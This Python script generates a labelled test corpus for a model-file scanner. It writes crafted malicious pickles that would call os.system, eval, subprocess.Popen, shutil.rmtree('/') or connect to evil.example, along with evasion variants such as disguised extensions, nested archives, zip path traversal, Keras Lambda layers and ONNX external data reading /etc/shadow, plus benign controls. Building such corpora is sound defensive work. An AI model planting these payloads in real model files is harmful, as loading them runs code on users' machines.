"""Builds the Inspect test corpus: malicious and benign model artifacts, written as bytes.

Nothing here is ever unpickled. Malicious pickles are produced by pickle.dumps of objects whose __reduce__
names a dangerous callable (pickling does not call it) or assembled opcode by opcode.
Usage: python make_inspect_corpus.py OUTDIR   -> writes OUTDIR/malicious/*, OUTDIR/benign/*, OUTDIR/manifest.json
"""
import bz2, gzip, io, json, lzma, os, pickle, struct, sys, tarfile, types, zipfile, zlib, collections

out = sys.argv[1]
mal_dir = os.path.join(out, "malicious")
ben_dir = os.path.join(out, "benign")
os.makedirs(mal_dir, exist_ok=True)
os.makedirs(ben_dir, exist_ok=True)
manifest = []


def write(kind, name, data, technique):
    d = mal_dir if kind == "malicious" else ben_dir
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    manifest.append({"file": kind + "/" + name, "expect": kind, "technique": technique})


class Call:
    """Pickles as a call of fn(*args) without ever calling it."""
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def dumps(obj, proto):
    return pickle.dumps(obj, protocol=proto)


import os as _os, subprocess, builtins, importlib, pkgutil, operator, runpy, marshal, socket, shutil, webbrowser
import pdb, ctypes, codecs

payload = Call(_os.system, "echo pwned")
for p in range(0, 6):
    write("malicious", f"os_system_p{p}.pkl", dumps(payload, p), f"os.system via REDUCE, protocol {p}")
write("malicious", "eval.pkl", dumps(Call(builtins.eval, "__import__('os').system('id')"), 2), "builtins.eval")
write("malicious", "exec.pkl", dumps(Call(builtins.exec, "import os"), 4), "builtins.exec")
write("malicious", "compile.pkl", dumps(Call(builtins.compile, "1", "f", "eval"), 4), "builtins.compile")
write("malicious", "dunder_import.pkl", dumps(Call(builtins.__import__, "os"), 3), "builtins.__import__")
write("malicious", "subprocess.pkl", dumps(Call(subprocess.Popen, ["id"]), 4), "subprocess.Popen")
write("malicious", "importlib.pkl", dumps(Call(importlib.import_module, "os"), 4), "importlib.import_module")
write("malicious", "runpy.pkl", dumps(Call(runpy.run_path, "/tmp/x.py"), 4), "runpy.run_path")
write("malicious", "nested_pickle.pkl", dumps(Call(pickle.loads, dumps(payload, 2)), 4), "pickle.loads nested")
write("malicious", "marshal.pkl", dumps(Call(marshal.loads, b"\xe3"), 4), "marshal.loads")
write("malicious", "pdb.pkl", dumps(Call(pdb.run, "import os"), 4), "pdb.run")
write("malicious", "ctypes.pkl", dumps(Call(ctypes.CDLL, "libc.so.6"), 4), "ctypes.CDLL")
write("malicious", "socket.pkl", dumps(Call(socket.create_connection, ("evil.example", 80)), 4), "socket.create_connection")
write("malicious", "open_file.pkl", dumps(Call(builtins.open, "/etc/passwd"), 2), "builtins.open")
write("malicious", "shutil.pkl", dumps(Call(shutil.rmtree, "/"), 4), "shutil.rmtree")
write("malicious", "webbrowser.pkl", dumps(Call(webbrowser.open, "http://evil.example"), 4), "webbrowser.open")
write("malicious", "codecs_open.pkl", dumps(Call(codecs.open, "/etc/passwd"), 4), "codecs.open")
write("malicious", "operator_attrgetter.pkl", dumps(Call(operator.attrgetter, "system"), 4), "operator.attrgetter")

# ---- hand-assembled opcodes
def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b

PROTO4 = b"\x80\x04"
# getattr(__import__('os'), 'system')('id'): the dangerous name is never imported directly
getattr_chain = (PROTO4 + su("builtins") + su("getattr") + b"\x93" + su("builtins") + su("__import__") + b"\x93"
                 + su("os") + b"\x85R" + su("system") + b"\x86R" + su("id") + b"\x85R.")
write("malicious", "getattr_indirection.pkl", getattr_chain, "getattr(__import__('os'), 'system')('id')")
# pkgutil.resolve_name('os:system')('id'): an indirect call of a computed callable
resolve = PROTO4 + su("pkgutil") + su("resolve_name") + b"\x93" + su("os:system") + b"\x85R" + su("id") + b"\x85R."
write("malicious", "pkgutil_resolve.pkl", resolve, "pkgutil.resolve_name then indirect call")
# memo indirection: module and name memoized early, fetched with BINGET much later
memo = (PROTO4 + su("posix") + b"\x94" + b"0" + su("ignored") + b"0" + su("system") + b"\x94" + b"0"
        + b"]\x94(K\x01K\x02e0" + b"h\x00h\x01\x93" + su("id") + b"\x85R.")
write("malicious", "memo_indirection.pkl", memo, "STACK_GLOBAL operands through MEMOIZE/BINGET from earlier positions")
# STACK_GLOBAL fed by old-style SHORT_BINSTRING operands (not SHORT_BINUNICODE)
sbs = PROTO4 + b"U\x02osU\x06system\x93U\x02id\x85R."
write("malicious", "stack_global_binstring.pkl", sbs, "STACK_GLOBAL with SHORT_BINSTRING operands")
# the call's result is discarded with POP; the pickle then returns a harmless dict
discarded = PROTO4 + su("os") + su("system") + b"\x93" + su("id") + b"\x85R0}\x94."
write("malicious", "discarded_call.pkl", discarded, "call whose result is discarded by POP")
# protocol 0 INST and OBJ
write("malicious", "inst_p0.pkl", b"(S'id'\nios\nsystem\n.", "INST opcode (protocol 0)")
write("malicious", "obj_p1.pkl", b"(cos\nsystem\nS'id'\no.", "OBJ opcode")
# NEWOBJ with a dangerous class
write("malicious", "newobj.pkl", b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85\x81.", "NEWOBJ of subprocess.Popen")
# BUILD on an imported object: overwrites attributes of a live class
write("malicious", "build_on_class.pkl", b"\x80\x02ccollections\nOrderedDict\n}X\x04\x00\x00\x00keysX\x02\x00\x00\x00idsb.",
      "BUILD mutating an imported class")
# two pickles stacked: a benign one first, the payload second
write("malicious", "stacked.pkl", dumps({"weights": [1, 2, 3]}, 4) + dumps(payload, 4), "stacked pickles, payload second")
# Python 2 name mapped by fix_imports
write("malicious", "py2_builtin_eval.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", "__builtin__.eval (Python 2 name)")
# non-standard extensions and a pickle named .safetensors
write("malicious", "model.safetensors", dumps(payload, 4), "pickle disguised as .safetensors")
write("malicious", "weights.dat", dumps(payload, 2), "non-standard extension")
write("malicious", "no_extension", dumps(payload, 0), "no extension, protocol 0")

# ---- compressed wrappers (joblib writes zlib/gzip/bz2/lzma)
raw = dumps(payload, 4)
write("malicious", "payload.zlib", zlib.compress(raw), "zlib-compressed pickle")
write("malicious", "payload.pkl.gz", gzip.compress(raw), "gzip-compressed pickle")
write("malicious", "payload.pkl.bz2", bz2.compress(raw), "bz2-compressed pickle")
write("malicious", "payload.pkl.xz", lzma.compress(raw), "xz-compressed pickle")
write("malicious", "payload.pkl.lzma", lzma.compress(raw, format=lzma.FORMAT_ALONE), "lzma-alone compressed pickle")


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()

write("malicious", "torch_like.pt", zip_bytes([("archive/data.pkl", raw), ("archive/version", b"3\n")]),
      "PyTorch zip with malicious data.pkl")
write("malicious", "odd_member.pth", zip_bytes([("archive/version", b"3\n"), ("archive/../../weights.bin", raw)]),
      "zip member with a traversal name")
write("malicious", "txt_member.zip", zip_bytes([("readme.txt", dumps(payload, 0))]), "protocol-0 pickle in a zip member named .txt")
write("malicious", "unicode_member.bin", zip_bytes([("archive/dat\u0430.pkl", dumps(payload, 2))]), "zip member with a homoglyph name")
write("malicious", "gz_in_zip.zip", zip_bytes([("model/blob", gzip.compress(raw))]), "gzip pickle inside a zip")
write("malicious", "zip_in_zip.zip", zip_bytes([("inner.zip", zip_bytes([("a/data.pkl", raw)]))]), "zip inside a zip")

# legacy PyTorch tar (torch < 1.6 "tar" format) with a malicious pickle member
tbuf = io.BytesIO()
with tarfile.open(fileobj=tbuf, mode="w") as t:
    for name, data in [("sys_info", dumps({"protocol_version": 1001}, 2)), ("pickle", raw), ("storages", b"\x80\x02]q\x00.")]:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
write("malicious", "legacy_torch.tar", tbuf.getvalue(), "legacy PyTorch tar")

# NumPy object array: the data section is a pickle
def npy_object(pickled):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + " " * (((64 - (10 + len(header) + 1) % 64) % 64)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled

write("malicious", "object_array.npy", npy_object(dumps([payload], 3)), "NumPy .npy object array")
write("malicious", "object_array.npz", zip_bytes([("arr_0.npy", npy_object(dumps([payload], 3)))]), "NumPy .npz with an object array")

# Keras: Lambda layer in .keras config.json, and in an HDF5 model_config attribute
lambda_cfg = json.dumps({"class_name": "Sequential", "config": {"layers": [
    {"class_name": "Dense", "config": {"units": 4}},
    {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "module": "builtins"}}}}]}})
write("malicious", "lambda.keras", zip_bytes([("config.json", lambda_cfg), ("metadata.json", "{}"), ("model.weights.h5", b"")]),
      "Keras Lambda layer (.keras)")
h5 = bytearray(b"\x89HDF\r\n\x1a\n" + b"\x00" * 504)
h5 += b"model_config\x00\x00\x00\x00" + lambda_cfg.encode() + b"\x00" * 64
write("malicious", "lambda.h5", bytes(h5), "Keras Lambda layer in an HDF5 model_config attribute")
module_ref = json.dumps({"class_name": "Functional", "config": {"layers": [
    {"class_name": "Dense", "module": "os", "registered_name": "system", "config": {}}]}})
write("malicious", "module_ref.keras", zip_bytes([("config.json", module_ref)]), "Keras layer naming an arbitrary module")

# ONNX: custom domain and external data escaping the model folder
try:
    import onnx
    from onnx import helper, TensorProto
    node = helper.make_node("Exec", ["x"], ["y"], domain="evil.custom")
    g = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil.custom", 1)])
    write("malicious", "custom_domain.onnx", m.SerializeToString(), "ONNX custom operator domain")
    t = helper.make_tensor("w", TensorProto.FLOAT, [4], [0.0] * 4)
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for k, v in [("location", "../../etc/passwd"), ("offset", "0"), ("length", "16")]:
        e = t.external_data.add(); e.key = k; e.value = v
    n2 = helper.make_node("Add", ["x", "w"], ["y"])
    g2 = helper.make_graph([n2], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                           [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])], initializer=[t])
    m2 = helper.make_model(g2, opset_imports=[helper.make_opsetid("", 17)])
    write("malicious", "external_traversal.onnx", m2.SerializeToString(), "ONNX external data outside the model folder")
    # the same escape hidden in a Constant node inside an If subgraph
    ct = helper.make_tensor("c", TensorProto.FLOAT, [4], [0.0] * 4)
    ct.ClearField("float_data")
    ct.data_location = TensorProto.EXTERNAL
    e = ct.external_data.add(); e.key = "location"; e.value = "/etc/shadow"
    const = helper.make_node("Constant", [], ["c"], value=ct)
    then_g = helper.make_graph([const], "then", [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [4])])
    else_g = helper.make_graph([helper.make_node("Constant", [], ["c"], value=helper.make_tensor("z", TensorProto.FLOAT, [4], [1.0] * 4))],
                               "else", [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [4])])
    ifn = helper.make_node("If", ["cond"], ["c"], then_branch=then_g, else_branch=else_g)
    g3 = helper.make_graph([ifn], "g", [helper.make_tensor_value_info("cond", TensorProto.BOOL, [])],
                           [helper.make_tensor_value_info("c", TensorProto.FLOAT, [4])])
    write("malicious", "external_in_subgraph.onnx", helper.make_model(g3, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString(),
          "ONNX external data in a Constant inside an If subgraph")
except ImportError:
    pass

# safetensors with trailing polyglot data (a zip appended)
def safetensors(tensors, metadata=None, trailing=b""):
    header = {}
    data = b""
    for name, (dtype, shape, raw_bytes) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(raw_bytes)]}
        data += raw_bytes
    if metadata is not None:
        header["__metadata__"] = metadata
    h = json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data + trailing

w = struct.pack("<4f", 1, 2, 3, 4)
write("malicious", "polyglot.safetensors", safetensors({"w": ("F32", [4], w)}, trailing=zip_bytes([("data.pkl", raw)])),
      "safetensors with a zip of a pickle appended")

# ============ benign
for p in range(0, 6):
    write("benign", f"plain_p{p}.pkl", dumps({"layer1": [0.1, 0.2, 0.3], "layer2": (1, "a", None, True, b"x")}, p),
          f"plain containers, protocol {p}")
write("benign", "ordered_dict.pkl", dumps(collections.OrderedDict(a=1, b=[1.5]), 2), "collections.OrderedDict")
write("benign", "sets.pkl", dumps({"s": {1, 2}, "f": frozenset([3]), "c": 1 + 2j, "big": 2 ** 100}, 4), "sets, complex, big int")
write("benign", "million_ints.pkl", dumps(list(range(3_000_000)), 4), "a pickle with three million integers")
try:
    import numpy as np
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    write("benign", "numpy_array.pkl", dumps(arr, 2), "NumPy array pickle (protocol 2)")
    write("benign", "numpy_array_p5.pkl", dumps({"a": arr, "b": np.int64(3)}, 5), "NumPy arrays, protocol 5")
    buf = io.BytesIO(); np.save(buf, arr); write("benign", "array.npy", buf.getvalue(), "numeric .npy")
    buf = io.BytesIO(); np.savez(buf, a=arr, b=np.ones(3)); write("benign", "arrays.npz", buf.getvalue(), "numeric .npz")
    import joblib
    for comp in ["zlib", "gzip", "bz2", "lzma", "xz"]:
        b = io.BytesIO()
        joblib.dump({"coef": arr}, b, compress=(comp, 3))
        write("benign", f"joblib_{comp}.joblib", b.getvalue(), f"joblib dump compressed with {comp}")
    from sklearn.linear_model import LogisticRegression
    from sklearn.tree import DecisionTreeClassifier
    X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    y = np.array([0, 1, 1, 0])
    write("benign", "sklearn_logreg.pkl", dumps(LogisticRegression().fit(X, y), 4), "scikit-learn LogisticRegression")
    write("benign", "sklearn_tree.pkl", dumps(DecisionTreeClassifier().fit(X, y), 5), "scikit-learn DecisionTree")
except ImportError:
    pass

# PyTorch-style state dict, written the way torch.save does (zip, persistent ids for storages), without torch
torch = types.ModuleType("torch"); torch_utils = types.ModuleType("torch._utils")
sys.modules["torch"] = torch; sys.modules["torch._utils"] = torch_utils
def _rebuild_tensor_v2(*a): raise RuntimeError("never called")
_rebuild_tensor_v2.__module__ = "torch._utils"; torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2
class FloatStorage: pass
FloatStorage.__module__ = "torch"; torch.FloatStorage = FloatStorage
class FakeTensor:
    def __init__(self, key, n): self.key, self.n = key, n
    def __reduce__(self):
        return _rebuild_tensor_v2, (StorageRef(self.key, self.n), 0, (self.n,), (1,), False, collections.OrderedDict())
class StorageRef:
    def __init__(self, key, n): self.key, self.n = key, n
class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.n)
        return None
state = collections.OrderedDict([("fc.weight", FakeTensor("0", 8)), ("fc.bias", FakeTensor("1", 2))])
pb = io.BytesIO(); TorchPickler(pb, protocol=2).dump(state)
write("benign", "state_dict.pt", zip_bytes([("archive/data.pkl", pb.getvalue()), ("archive/byteorder", b"little"),
      ("archive/data/0", b"\x00" * 32), ("archive/data/1", b"\x00" * 8), ("archive/version", b"3\n")]),
      "PyTorch-style state dict (zip, persistent storages)")
write("benign", "state_dict_plain.pkl", pb.getvalue(), "PyTorch-style state dict pickle")

write("benign", "model.safetensors", safetensors({"a": ("F32", [2, 2], w), "b": ("I64", [1], struct.pack("<q", 7))},
      metadata={"format": "pt"}), "valid safetensors")
write("benign", "plain.keras", zip_bytes([("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [
    {"class_name": "Dense", "module": "keras.layers", "config": {"units": 4}}]}})), ("metadata.json", "{}")]), "Keras model without Lambda")

# GGUF v3: one key/value, one tensor, aligned data
def gguf():
    b = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    key = b"general.architecture"; b += struct.pack("<Q", len(key)) + key + struct.pack("<I", 8) + struct.pack("<Q", 5) + b"llama"
    name = b"tok.weight"; b += struct.pack("<Q", len(name)) + name + struct.pack("<I", 2) + struct.pack("<QQ", 4, 2) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    b += b"\x00" * ((32 - len(b) % 32) % 32)
    return b + struct.pack("<8f", *range(8))
write("benign", "tiny.gguf", gguf(), "GGUF v3 with one tensor")

try:
    from skl2onnx import to_onnx
    from sklearn.linear_model import LogisticRegression
    m = to_onnx(LogisticRegression().fit(X, y), X[:1].astype(np.float32), target_opset={"": 17, "ai.onnx.ml": 3})
    write("benign", "logreg.onnx", m.SerializeToString(), "ONNX model with ai.onnx.ml operators")
except ImportError:
    pass

with open(os.path.join(out, "manifest.json"), "w") as f:
    json.dump(manifest, f, indent=1)
print(len(manifest))
